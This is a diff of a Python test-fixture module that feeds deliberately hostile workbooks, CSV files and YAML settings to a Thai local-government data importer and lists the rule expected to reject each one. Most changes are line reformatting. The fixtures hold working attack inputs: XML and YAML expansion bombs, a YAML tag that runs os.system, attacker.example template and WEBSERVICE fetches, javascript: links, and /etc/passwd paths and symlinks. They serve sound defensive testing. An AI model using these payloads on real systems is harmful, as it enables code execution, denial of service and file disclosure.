@@ -226,8 +226,12 @@ def junk(size: int) -> bytes:
 
 LAUGHS = "<!DOCTYPE a [<!ENTITY l0 'ha'>" + "".join(
     f"<!ENTITY l{number} '{f'&l{number - 1};' * 10}'>" for number in range(1, 10)
-)  # fmt: skip
+)
 RELATION = '<Relationship Id="rId99" Type="{}" Target="{}" TargetMode="External"/></Relationships>'
+MARKS = '<c r="H15" t="n"><v>20</v></c>'
+"""The first marks of the first LGO, in XML."""
+BROKEN = ('<c r="H17" t="n"><v>20</v></c>', '<c r="H17" t="e"><v>#REF!</v></c>')
+"""Marks, and an error in their place."""
 SHEET_START = f'<worksheet xmlns="{SPREADSHEET}"><sheetData>'
 SHEET_END = "</sheetData></worksheet>"
 
@@ -301,7 +305,10 @@ FOREIGN_WORKBOOKS: dict[str, tuple[Make, str]] = {
         file(lambda: bits(packed({**entries(sound_export()), SHEET: bytes(30_000_000)}.items()), size=999)),
         "workbook_unreadable",
     ),
-    "zip that claims four gigabytes": (file(lambda: bits(sound_export(), size=2**32 - 2)), "workbook_swollen"),
+    "zip that claims four gigabytes": (
+        file(lambda: bits(sound_export(), size=2**32 - 2)),
+        "workbook_swollen",
+    ),
     "zip of a thousand entries": (
         with_entries({f"xl/media/{number}.png": b"" for number in range(1_000)}),
         "workbook_swollen",
@@ -342,7 +349,10 @@ FOREIGN_WORKBOOKS: dict[str, tuple[Make, str]] = {
         "workbook_encrypted",
     ),
     "CSV named xlsx": (file(lambda: dla_files.REGISTRY.encode()), "not_a_workbook"),
-    "CSV in cp874 named xlsx": (file(lambda: dla_files.REGISTRY.encode("cp874", "replace")), "not_a_workbook"),
+    "CSV in cp874 named xlsx": (
+        file(lambda: dla_files.REGISTRY.encode("cp874", "replace")),
+        "not_a_workbook",
+    ),
     "web page named xls": (file(lambda: b"<html><table><tr><td>1", "hostile.xls"), "not_a_workbook"),
     "PDF named xlsx": (file(lambda: b"%PDF-1.7\n" + junk(500)), "not_a_workbook"),
     "picture named xlsx": (file(lambda: b"\x89PNG\r\n\x1a\n" + junk(500)), "not_a_workbook"),
@@ -374,9 +384,18 @@ FOREIGN_WORKBOOKS: dict[str, tuple[Make, str]] = {
         "workbook_doctype",
     ),
     "XML as deep as a well": (with_entries({SHEET: "<a>" * 100_000}), "workbook_swollen"),
-    "styles as deep as a well": (with_entries({STYLES: "<a>" * 100_000 + "</a>" * 100_000}), "workbook_swollen"),
-    "XML that isn't": (with_entries({SHEET: "<worksheet><sheetData><row></worksheet>"}), "workbook_unreadable"),
-    "a million texts": (with_entries({STRINGS: f'<sst xmlns="{SPREADSHEET}">{"<si/>" * 1_000_000}</sst>'}), "workbook_swollen"),
+    "styles as deep as a well": (
+        with_entries({STYLES: "<a>" * 100_000 + "</a>" * 100_000}),
+        "workbook_swollen",
+    ),
+    "XML that isn't": (
+        with_entries({SHEET: "<worksheet><sheetData><row></worksheet>"}),
+        "workbook_unreadable",
+    ),
+    "a million texts": (
+        with_entries({STRINGS: f'<sst xmlns="{SPREADSHEET}">{"<si/>" * 1_000_000}</sst>'}),
+        "workbook_swollen",
+    ),
     "a hundred thousand styles": (
         with_entries({STYLES: f"<styleSheet><cellXfs>{'<xf/>' * 100_000}</cellXfs></styleSheet>"}),
         "workbook_swollen",
@@ -391,7 +410,10 @@ FOREIGN_WORKBOOKS: dict[str, tuple[Make, str]] = {
         "workbook_unreadable",
     ),
     "a large sheet two hundred times": (same_sheet_again(200), "workbook_unreadable"),
-    "a text that isn't there": (edited(SHEET, 't="s"><v>0</v>', 't="s"><v>999999</v>'), "workbook_unreadable"),
+    "a text that isn't there": (
+        edited(SHEET, 't="s"><v>0</v>', 't="s"><v>999999</v>'),
+        "workbook_unreadable",
+    ),
     "a sheet that isn't there": (with_entries({SHEET: None}), "workbook_unreadable"),
     "no table of contents": (with_entries({TYPES: None}), "workbook_unreadable"),
     "rows in the wrong order": (edited(SHEET, '<row r="16"', '<row r="14"'), "workbook_unreadable"),
@@ -401,7 +423,11 @@ FOREIGN_WORKBOOKS: dict[str, tuple[Make, str]] = {
     # what acts or points elsewhere
     "macros": (with_parts(**{"xl__vbaProject.bin": b"x"}), "workbook_active"),
     "macros under another name": (
-        edited(TYPES, "</Types>", '<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
+        edited(
+            TYPES,
+            "</Types>",
+            '<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+        ),
         "workbook_active",
     ),
     "a workbook that says it has macros": (
@@ -414,31 +440,42 @@ FOREIGN_WORKBOOKS: dict[str, tuple[Make, str]] = {
         "workbook_active",
     ),
     "a template from the network": (
-        edited(RELATIONS, "</Relationships>", RELATION.format(OFFICE + "attachedTemplate", "http://attacker.example/a.xltm")),
+        edited(
+            RELATIONS,
+            "</Relationships>",
+            RELATION.format(OFFICE + "attachedTemplate", "http://attacker.example/a.xltm"),
+        ),
         "workbook_active",
     ),
     "a picture from the network": (
-        edited(RELATIONS, "</Relationships>", RELATION.format(OFFICE + "image", "\\\\attacker.example\\share\\a.png")),
+        edited(
+            RELATIONS,
+            "</Relationships>",
+            RELATION.format(OFFICE + "image", "\\\\attacker.example\\share\\a.png"),
+        ),
         "workbook_active",
     ),
     "an embedded object": (with_parts(**{"xl__embeddings__oleObject1.bin": b"x"}), "workbook_active"),
     "an ActiveX control": (with_parts(**{"xl__activeX__activeX1.bin": b"x"}), "workbook_active"),
-    "a connection to a database": (with_parts(**{"xl__connections.xml": "<connections/>"}), "workbook_active"),
+    "a connection to a database": (
+        with_parts(**{"xl__connections.xml": "<connections/>"}),
+        "workbook_active",
+    ),
     "a program inside": (with_parts(**{"xl__media__image1.png": b"MZ" + junk(500)}), "workbook_active"),
     # where cells are, and what a person doesn't see
     "a cell at the end of the world": (cell("XFD1048576", 1), "cell_far_away"),
     "a cell below all tables": (cell("A20001", 1), "cell_far_away"),
     "a cell right of all tables": (cell("GS15", 1), "cell_far_away"),
     "a false dimension over an error": (
-        edited(SHEET, 'ref="A1:O19"', 'ref="A1:B2"', '<c r="H17" t="n"><v>20</v></c>', '<c r="H17" t="e"><v>#REF!</v></c>'),
+        edited(SHEET, 'ref="A1:O19"', 'ref="A1:B2"', *BROKEN),
         "error_in_workbook",
     ),
     "no dimension over an error": (
-        edited(SHEET, '<dimension ref="A1:O19"/>', "", '<c r="H17" t="n"><v>20</v></c>', '<c r="H17" t="e"><v>#REF!</v></c>'),
+        edited(SHEET, '<dimension ref="A1:O19"/>', "", *BROKEN),
         "error_in_workbook",
     ),
     "a dimension of the whole world over an error": (
-        edited(SHEET, 'ref="A1:O19"', 'ref="A1:XFD1048576"', '<c r="H17" t="n"><v>20</v></c>', '<c r="H17" t="e"><v>#REF!</v></c>'),
+        edited(SHEET, 'ref="A1:O19"', 'ref="A1:XFD1048576"', *BROKEN),
         "error_in_workbook",
     ),
     "a hidden row": (changed(hide("row")), "hidden_rows"),
@@ -446,32 +483,44 @@ FOREIGN_WORKBOOKS: dict[str, tuple[Make, str]] = {
     "a hidden sheet": (changed(hide("hidden")), "hidden_sheet"),
     "a sheet hidden from the menu too": (changed(hide("veryHidden")), "hidden_sheet"),
     "marks merged over two rows": (changed(lambda sheet: sheet.merge_cells("H15:H16")), "export_not_marks"),
-    "names merged over two rows": (changed(lambda sheet: sheet.merge_cells("F15:F16")), "export_cell_missing"),
+    "names merged over two rows": (
+        changed(lambda sheet: sheet.merge_cells("F15:F16")),
+        "export_cell_missing",
+    ),
     "marks under a merged cell": (
-        edited(SHEET, "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="H15:H16"/></mergeCells>'),
+        edited(
+            SHEET, "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="H15:H16"/></mergeCells>'
+        ),
         "covered_cell",
     ),
     "merged cells without end": (
-        edited(SHEET, "</sheetData>", "</sheetData><mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 5_000 + "</mergeCells>"),
+        edited(
+            SHEET,
+            "</sheetData>",
+            "</sheetData><mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 5_000 + "</mergeCells>",
+        ),
         "workbook_swollen",
     ),
     "headings twice": (cell("J12", "ด้านที่ 1 การบริหารจัดการ"), "export_layout"),
     "a dimension of five thousand digits": (cell("J12", "ด้านที่ " + "9" * 3_900), "export_layout"),
     # what stands in a cell
     "a formula with its value": (
-        edited(SHEET, '<c r="H15" t="n"><v>20</v></c>', '<c r="H15"><f>10+10</f><v>20</v></c>'),
+        edited(SHEET, MARKS, '<c r="H15"><f>10+10</f><v>20</v></c>'),
         "formula_in_workbook",
     ),
     "a formula without its value": (cell("H15", "=10+10"), "formula_in_workbook"),
     "a formula shared": (
-        edited(SHEET, '<c r="H15" t="n"><v>20</v></c>', '<c r="H15"><f t="shared" ref="H15:H16" si="0">10+10</f><v>20</v></c>'),
+        edited(SHEET, MARKS, '<c r="H15"><f t="shared" ref="H15:H16" si="0">10+10</f><v>20</v></c>'),
         "formula_in_workbook",
     ),
     "a formula of arrays": (cell("H15", ArrayFormula("H15:H16", "=10+10")), "formula_in_workbook"),
     "a formula that fetches": (cell("F15", '=WEBSERVICE("http://attacker.example/")'), "formula_in_workbook"),
-    "a link in a formula": (cell("F15", '=HYPERLINK("http://attacker.example/","อบจ.")'), "formula_in_workbook"),
+    "a link in a formula": (
+        cell("F15", '=HYPERLINK("http://attacker.example/","อบจ.")'),
+        "formula_in_workbook",
+    ),
     "a formula as text": (
-        edited(SHEET, '<c r="H15" t="n"><v>20</v></c>', '<c r="H15" t="inlineStr"><is><t>=10+10</t></is></c>'),
+        edited(SHEET, MARKS, '<c r="H15" t="inlineStr"><is><t>=10+10</t></is></c>'),
         "formula_in_workbook",
     ),
     "a division by zero": (cell("H15", "#DIV/0!"), "error_in_workbook"),
@@ -491,7 +540,22 @@ FOREIGN_WORKBOOKS: dict[str, tuple[Make, str]] = {
     **{
         f"marks written as {text!r}": (cell("H15", text), "export_not_marks")
         for text in (
-            *("1-ม.ค.", "nan", "inf", "1e309", "4,5", "1_0", "+3", "03", "-0", "３", "٣", "1 000", "20%", "½"),
+            *(
+                "1-ม.ค.",
+                "nan",
+                "inf",
+                "1e309",
+                "4,5",
+                "1_0",
+                "+3",
+                "03",
+                "-0",
+                "３",
+                "٣",
+                "1 000",
+                "20%",
+                "½",
+            ),
             *("ยี่สิบ", "-", "20 คะแนน", "0x14", "9" * 3_000),
         )
     },
@@ -519,7 +583,7 @@ FOREIGN_WORKBOOKS: dict[str, tuple[Make, str]] = {
     "a file name that is no text": (file(sound_export, os.fsdecode(b"\xff\xfe.xlsx")), "odd_file_name"),
     "a file name that turns around": (file(sound_export, "lpa\u202excod.xlsx"), "odd_file_name"),
     "a file name that is a formula": (file(sound_export, "=1+1.xlsx"), "odd_file_name"),
-}  # fmt: skip
+}
 """What happens to a sound export workbook."""
 
 
@@ -571,12 +635,24 @@ FOREIGN_CSV: dict[str, tuple[Make, str]] = {
     "registry with a code in full width": (registry("6220201", "６２２０２０１"), "registry_code"),
     "registry with an endless code": (registry("6220201", "9" * 3_999), "registry_code"),
     "registry with a type of its own": (registry("6220201,อบต.", "6220201,อบล."), "registry_type"),
-    "registry with an address for a province": (registry("จันทบุรี,ขลุง", "http://a.example/,ขลุง"), "import_unknown_province"),
-    "registry with one code for two": (registry(ROW, ROW + ROW.replace("บ่อทอง", "บ่อเงิน")), "registry_conflict"),
-}  # fmt: skip
+    "registry with an address for a province": (
+        registry("จันทบุรี,ขลุง", "http://a.example/,ขลุง"),
+        "import_unknown_province",
+    ),
+    "registry with one code for two": (
+        registry(ROW, ROW + ROW.replace("บ่อทอง", "บ่อเงิน")),
+        "registry_conflict",
+    ),
+}
 """Delimited files, and the registry spoiled."""
 
 FOREIGN = {**FOREIGN_WORKBOOKS, **FOREIGN_CSV}
+
+SOUND: dict[str, Make] = {
+    "dla_export": file(sound_export),
+    "open_registry": registry(),
+}
+"""A sound file for each of `generator.intake.READERS`, by the reader's module."""
 
 # ---------------------------------------------------------------- the data folder
 
@@ -609,7 +685,7 @@ def special(make: Callable[[Path], object], path: str) -> Spoil:
 
 def odd_name(name: bytes) -> Spoil:
     """A file of an odd name beside the scores."""
-    return lambda data: (data / "rounds/2568/scores" / os.fsdecode(name)).write_bytes(b"x") and None
+    return write(f"rounds/2568/scores/{os.fsdecode(name)}", b"x")
 
 
 def deep(data: Path) -> None:
@@ -632,8 +708,13 @@ def filler(path: str, content: Callable[[], bytes]) -> Spoil:
 
 
 NUMBERS = {
-    **dict.fromkeys(("nan", "inf", "-inf", "1-ม.ค.", "TRUE", "#DIV/0!", "#N/A", "0x5", "½", "٣", "３", "Ⅲ"), "unknown_word"),
-    **dict.fromkeys(("1e309", "1_0", "+3", "03", "-0", "3.0", "3.", ".5", "3%", "9" * 3_000), "number_spelling"),
+    **dict.fromkeys(
+        ("nan", "inf", "-inf", "1-ม.ค.", "TRUE", "#DIV/0!", "#N/A", "0x5", "½", "٣", "３", "Ⅲ"),
+        "unknown_word",
+    ),
+    **dict.fromkeys(
+        ("1e309", "1_0", "+3", "03", "-0", "3.0", "3.", ".5", "3%", "9" * 3_000), "number_spelling"
+    ),
     **dict.fromkeys(("4,5", "1,000"), "comma_number"),
     **dict.fromkeys(("๔.๕", "๓"), "thai_digits"),
     **dict.fromkeys(("3\u00a0", " 3", "1 0"), "stray_space"),
@@ -641,44 +722,62 @@ NUMBERS = {
     **dict.fromkeys(("=1+1", "@3", "cut!", "../3", "file:///etc/passwd"), "unknown_word"),
     **dict.fromkeys(("4", "-3", "999999999999"), "outside_steps"),
     "9" * 5_000: "too_long",
-}  # fmt: skip
+}
 """What may stand where a score belongs, and the rule that sees it."""
 NUMBERS["1 0"] = "unknown_word"
 
 NAMES = {
-    **dict.fromkeys(("=HYPERLINK(\"http://a.example\")", "+66ก", "-2ก", "@SUM(ก)", "＝ก"), "formula_text"),
-    **dict.fromkeys(("ก\u202eข", "ก\u2066ข", "ก\u200dข", "ก\u00adข", "ก\x00ข"[:1] + "\x07ข", "ก\ufffdข", "ก\uf70aข"), "hidden_character"),
+    **dict.fromkeys(('=HYPERLINK("http://a.example")', "+66ก", "-2ก", "@SUM(ก)", "＝ก"), "formula_text"),
+    **dict.fromkeys(
+        ("ก\u202eข", "ก\u2066ข", "ก\u200dข", "ก\u00adข", "ก\x00ข"[:1] + "\x07ข", "ก\ufffdข", "ก\uf70aข"),
+        "hidden_character",
+    ),
     **dict.fromkeys(("{{ก}}", "{%ก%}", "<%ก%>"), "template_delimiter"),
     "ก" + "\u0301\u0323" * 1_900: "stacked_marks",
     "ก" * 100_000: "endless_line",
     "ก" * 50_000: "too_long",
     "ก\u00a0ข": "stray_space",
-}  # fmt: skip
+}
 """What may stand where a name belongs."""
 
 LINKS = {
     **dict.fromkeys(
         (
             *("javascript:alert(1)", "file:///etc/passwd", "\\\\attacker.example\\share", "../../etc/passwd"),
-            *("/etc/passwd", "ftp://a.example/", "data:text/html;x", "//a.example/", "http\u017f://a.example/"),
+            *(
+                "/etc/passwd",
+                "ftp://a.example/",
+                "data:text/html;x",
+                "//a.example/",
+                "http\u017f://a.example/",
+            ),
             *("https://a.example/<script>", "https://user@a.example/", "http://\u0131.example/"),
         ),
         "odd_link",
     ),
-}  # fmt: skip
+}
 
 YAML = {
     "YAML with aliases": (setting("decimals: 2", "a: &a [1]\nb: *a\ndecimals: 2"), "unreadable_settings"),
     "YAML of a billion laughs": (
-        write(ROUND, b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
-            f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n".encode() for n in range(9))),
+        write(
+            ROUND,
+            b"a: &a [x,x,x,x,x,x,x,x,x]\n"
+            + b"".join(
+                f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n".encode()
+                for n in range(9)
+            ),
+        ),
         "unreadable_settings",
     ),
     "YAML that runs a program": (
         setting("rounding: half_up", "rounding: !!python/object/apply:os.system [touch /tmp/ran]"),
         "unreadable_settings",
     ),
-    "YAML with a tag at a text": (setting("name_th: ดีเด่น", "name_th: !!python/name:os.system ดีเด่น"), "unreadable_settings"),
+    "YAML with a tag at a text": (
+        setting("name_th: ดีเด่น", "name_th: !!python/name:os.system ดีเด่น"),
+        "unreadable_settings",
+    ),
     "YAML with a tag of its own": (setting("decimals: 2", "decimals: !two 2"), "unreadable_settings"),
     "YAML of brackets": (write(ROUND, b"[" * 90_000), "unreadable_settings"),
     "YAML of braces": (write(ROUND, b"{a: " * 20_000), "unreadable_settings"),
@@ -687,32 +786,60 @@ YAML = {
     "YAML that is a word": (write(ROUND, b"round\n"), "unreadable_settings"),
     "YAML that is nothing": (write(ROUND, b""), "unreadable_settings"),
     "YAML with a key twice": (setting("decimals: 2", "decimals: 2\ndecimals: 2"), "unreadable_settings"),
-    "YAML with a path for a key": (setting("aggregation: pooled", "aggregation: pooled\npass.rule: overall"), "unknown_setting"),
-    "YAML with a list for a key": (setting("decimals: 2", "? [a, b]\n: 1\ndecimals: 2"), "unreadable_settings"),
+    "YAML with a path for a key": (
+        setting("aggregation: pooled", "aggregation: pooled\npass.rule: overall"),
+        "unknown_setting",
+    ),
+    "YAML with a list for a key": (
+        setting("decimals: 2", "? [a, b]\n: 1\ndecimals: 2"),
+        "unreadable_settings",
+    ),
     "YAML with a merge": (setting("decimals: 2", "<<: {decimals: 2}"), "unknown_setting"),
     "YAML in two parts": (setting("decimals: 2", "decimals: 2\n---\na: 1"), "unreadable_settings"),
-    "YAML with a character beyond Unicode": (setting("name_th: ดีเด่น", 'name_th: "\\UFFFFFFFF"'), "unreadable_settings"),
+    "YAML with a character beyond Unicode": (
+        setting("name_th: ดีเด่น", 'name_th: "\\UFFFFFFFF"'),
+        "unreadable_settings",
+    ),
     "YAML with half a character": (setting("name_th: ดีเด่น", 'name_th: "ดี\\uD800"'), "hidden_character"),
     "YAML with an escape": (setting("name_th: ดีเด่น", 'name_th: "ดี\\u200B"'), "hidden_character"),
-    "YAML of version ninety-nine nines": (write(ROUND, b"%YAML 1." + b"9" * 5_000 + b"\n---\na: 1\n"), "unreadable_settings"),
+    "YAML of version ninety-nine nines": (
+        write(ROUND, b"%YAML 1." + b"9" * 5_000 + b"\n---\na: 1\n"),
+        "unreadable_settings",
+    ),
     "YAML with tabs": (setting("\ndecimals", "\n\tdecimals"), "unreadable_settings"),
     "YAML in UTF-16": (recode(ROUND, "utf-16"), "unreadable_settings"),
     "YAML in cp874": (recode(ROUND, "cp874"), "unreadable_settings"),
     "YAML with NUL": (setting("pooled", "poo\0led"), "unreadable_settings"),
     "YAML of a megabyte": (filler(ROUND, lambda: b"a: 1\n" * 200_000), "unreadable_settings"),
     "YAML of twenty thousand settings": (
-        filler(ROUND, lambda: b"".join(b"%x: 1\n" % number for number in range(11_000))), "unknown_setting"),
-    "YAML with a number of five thousand digits": (setting("decimals: 2", f"decimals: {'9' * 5_000}"), "too_long"),
-    "YAML with a number of three thousand digits": (setting("decimals: 2", f"decimals: {'9' * 3_000}"), "number_spelling"),
-    "YAML with an edition of three thousand digits": (setting("edition: P1", f"edition: P{'9' * 3_000}"), "wrong_form"),
+        filler(ROUND, lambda: b"".join(b"%x: 1\n" % number for number in range(11_000))),
+        "unknown_setting",
+    ),
+    "YAML with a number of five thousand digits": (
+        setting("decimals: 2", f"decimals: {'9' * 5_000}"),
+        "too_long",
+    ),
+    "YAML with a number of three thousand digits": (
+        setting("decimals: 2", f"decimals: {'9' * 3_000}"),
+        "number_spelling",
+    ),
+    "YAML with an edition of three thousand digits": (
+        setting("edition: P1", f"edition: P{'9' * 3_000}"),
+        "wrong_form",
+    ),
     "YAML with a weight of nothing": (
-        setting("aggregation: pooled", "aggregation: weighted\nweights: {1: 1/0, 2: 1/2}"), "wrong_form"),
+        setting("aggregation: pooled", "aggregation: weighted\nweights: {1: 1/0, 2: 1/2}"),
+        "wrong_form",
+    ),
     "YAML with an infinite mark": (setting("mark: 70", "mark: .inf"), "not_a_number"),
     "YAML with a date that isn't": (setting("2025-10-29", "2025-02-30"), "date_spelling"),
     "YAML with a time for a date": (setting("2025-10-29", "2025-10-29T00:00:00Z"), "date_spelling"),
     "YAML with yes for true": (swap(PUBLICATION, "demonstration: true", "demonstration: yes"), "not_in_list"),
-    "YAML with a script in its address": (swap(PUBLICATION, "base_url:", "base_url: javascript:alert(1)"), "odd_link"),
-}  # fmt: skip
+    "YAML with a script in its address": (
+        swap(PUBLICATION, "base_url:", "base_url: javascript:alert(1)"),
+        "odd_link",
+    ),
+}
 
 FILES: dict[str, tuple[Spoil, str]] = {
     "scores in UTF-16": (recode(SCORES, "utf-16"), "not_utf8"),
@@ -722,26 +849,57 @@ FILES: dict[str, tuple[Spoil, str]] = {
     "scores with semicolons": (swap(SCORES, ",", ";"), "wrong_delimiter"),
     "scores with tabs": (swap(SCORES, ",", "\t"), "wrong_delimiter"),
     "scores of an old Macintosh": (swap(SCORES, "\n", "\r"), "lone_return"),
-    "a lone return among lines": (swap(SCORES, "05220301,3,0,5,cut\n", "05220301,3,0,5,cut\r"), "lone_return"),
+    "a lone return among lines": (
+        swap(SCORES, "05220301,3,0,5,cut\n", "05220301,3,0,5,cut\r"),
+        "lone_return",
+    ),
     "scores with an open quotation mark": (swap(SCORES, "05220301,3", '05220301,"3'), "broken_quotes"),
     "scores with a quotation mark within": (swap(SCORES, "05220301,3", '05220301,"3"3'), "broken_quotes"),
     "scores of a million columns": (million_columns, "endless_line"),
-    "scores of two thousand columns": (filler(SCORES, lambda: b"lgo_code" + b",x" * 2_000 + b"\n1\n"), "too_many_columns"),
+    "scores of two thousand columns": (
+        filler(SCORES, lambda: b"lgo_code" + b",x" * 2_000 + b"\n1\n"),
+        "too_many_columns",
+    ),
     "scores of one endless line": (filler(SCORES, lambda: b"9" * 9_000_000), "endless_line"),
-    "statistics of nine million blank lines": (filler(STATISTICS, lambda: b"\n" * 9_000_000), "too_many_lines"),
+    "statistics of nine million blank lines": (
+        filler(STATISTICS, lambda: b"\n" * 9_000_000),
+        "too_many_lines",
+    ),
     "statistics of two hundred thousand bad rows": (
-        filler(STATISTICS, lambda: b"code,year,population,area_km2,villages,households,website,source\n"
-               + b"x,x,x,x,x,x,x,x\n" * 199_000), "too_many_problems"),
+        filler(
+            STATISTICS,
+            lambda: (
+                b"code,year,population,area_km2,villages,households,website,source\n"
+                + b"x,x,x,x,x,x,x,x\n" * 199_000
+            ),
+        ),
+        "too_many_problems",
+    ),
     "statistics of eight columns full of other words": (
-        filler(STATISTICS, lambda: b"code,year,population,area_km2,villages,households,website,source\n"
-               + b"".join(b"%x,%x,%x,%x,%x,%x,%x,%x\n" % ((number,) * 8) for number in range(150_000))), "too_many_problems"),
+        filler(
+            STATISTICS,
+            lambda: (
+                b"code,year,population,area_km2,villages,households,website,source\n"
+                + b"".join(b"%x,%x,%x,%x,%x,%x,%x,%x\n" % ((number,) * 8) for number in range(150_000))
+            ),
+        ),
+        "too_many_problems",
+    ),
     "scores a thousand columns wide and full": (
-        filler(SCORES, lambda: b"lgo_code," + b",".join(b"X%d" % n for n in range(998)) + b"\n"
-               + (b"ab," * 998 + b"cd\n") * 3_200), "unknown_indicator"),
+        filler(
+            SCORES,
+            lambda: (
+                b"lgo_code,"
+                + b",".join(b"X%d" % n for n in range(998))
+                + b"\n"
+                + (b"ab," * 998 + b"cd\n") * 3_200
+            ),
+        ),
+        "unknown_indicator",
+    ),
     "quotation marks by the million": (filler(SCORES, lambda: b'"' * 4_000_001), "endless_line"),
     "a table of eleven megabytes": (filler(STATISTICS, lambda: b"x" * 11_000_000), "too_large"),
-    "a table of a terabyte": (
-        lambda data: os.truncate(data / STATISTICS, 2**40), "too_large"),
+    "a table of a terabyte": (lambda data: os.truncate(data / STATISTICS, 2**40), "too_large"),
     "a book of a terabyte": (lambda data: os.truncate(data / BOOK, 2**40), "book_too_large"),
     "settings of a terabyte": (lambda data: os.truncate(data / ROUND, 2**40), "unreadable_settings"),
     "a heading twice": (swap(SCORES, "D1-020", "D1-010"), "duplicate_column"),
@@ -749,7 +907,10 @@ FILES: dict[str, tuple[Spoil, str]] = {
     "a heading that can't be seen": (swap(SCORES, "D1-020", "\u200b"), "unknown_indicator"),
     "a heading that is a formula": (swap(SCORES, "D1-020", "=1+1"), "unknown_indicator"),
     "no heading": (swap(SCORES, "lgo_code,D1-010,D1-020,D2-010,D2-020\n", "\n"), "ragged_row"),
-    "a code twice, once without its zero": (swap(SCORES, "06220302,0,5,1,", "05220301,3,0,5,cut\n5220301,3,0,5,cut"), "duplicate_lgo"),
+    "a code twice, once without its zero": (
+        swap(SCORES, "06220302,0,5,1,", "05220301,3,0,5,cut\n5220301,3,0,5,cut"),
+        "duplicate_lgo",
+    ),
     # what is no file
     "a link out of the folder": (linked(SCORES, "/etc/passwd"), "link_in_data"),
     "a link to endless zeros": (linked(SCORES, "/dev/zero"), "link_in_data"),
@@ -785,11 +946,16 @@ FILES: dict[str, tuple[Spoil, str]] = {
     "a population that is a date": (population("1-ม.ค."), "not_a_number"),
     "digits without end, then a letter": (population("1" * 3_999 + "x"), "not_a_number"),
     "a correction of a formula": (swap(CORRECTIONS, "D1-010,3,5", "D1-010,=1+1,5"), "formula_text"),
-    "a medium of a script": (swap(MEDIA, "https://www.example.go.th/media/1", "javascript:alert(1)"), "odd_link"),
-}  # fmt: skip
+    "a medium of a script": (
+        swap(MEDIA, "https://www.example.go.th/media/1", "javascript:alert(1)"),
+        "odd_link",
+    ),
+}
 
 
-def _named(kind: str, texts: Mapping[str, str], spoiled: Callable[[str], Spoil]) -> dict[str, tuple[Spoil, str]]:
+def _named(
+    kind: str, texts: Mapping[str, str], spoiled: Callable[[str], Spoil]
+) -> dict[str, tuple[Spoil, str]]:
     return {f"{kind} {text[:40]!a} ({len(text)})": (spoiled(text), rule) for text, rule in texts.items()}
 
 
@@ -806,7 +972,14 @@ CALLS: dict[str, tuple[str, ...]] = {
     "a folder for a file": ("import", "data", "--data", "data", "--round", "2568"),
     "a device for a file": ("import", "/dev/zero", "--data", "data", "--round", "2568"),
     "a pipe for a file": ("import", "pipe", "--data", "data", "--round", "2568"),
-    "an address for a file": ("import", "http://attacker.example/a.xlsx", "--data", "data", "--round", "2568"),
+    "an address for a file": (
+        "import",
+        "http://attacker.example/a.xlsx",
+        "--data",
+        "data",
+        "--round",
+        "2568",
+    ),
     "a file name without end": ("import", "x" * 5_000, "--data", "data", "--round", "2568"),
     "a round that isn't there": ("import", "sound.xlsx", "--data", "data", "--round", "2599"),
     "a folder that isn't there": ("validate", "--data", "nowhere"),
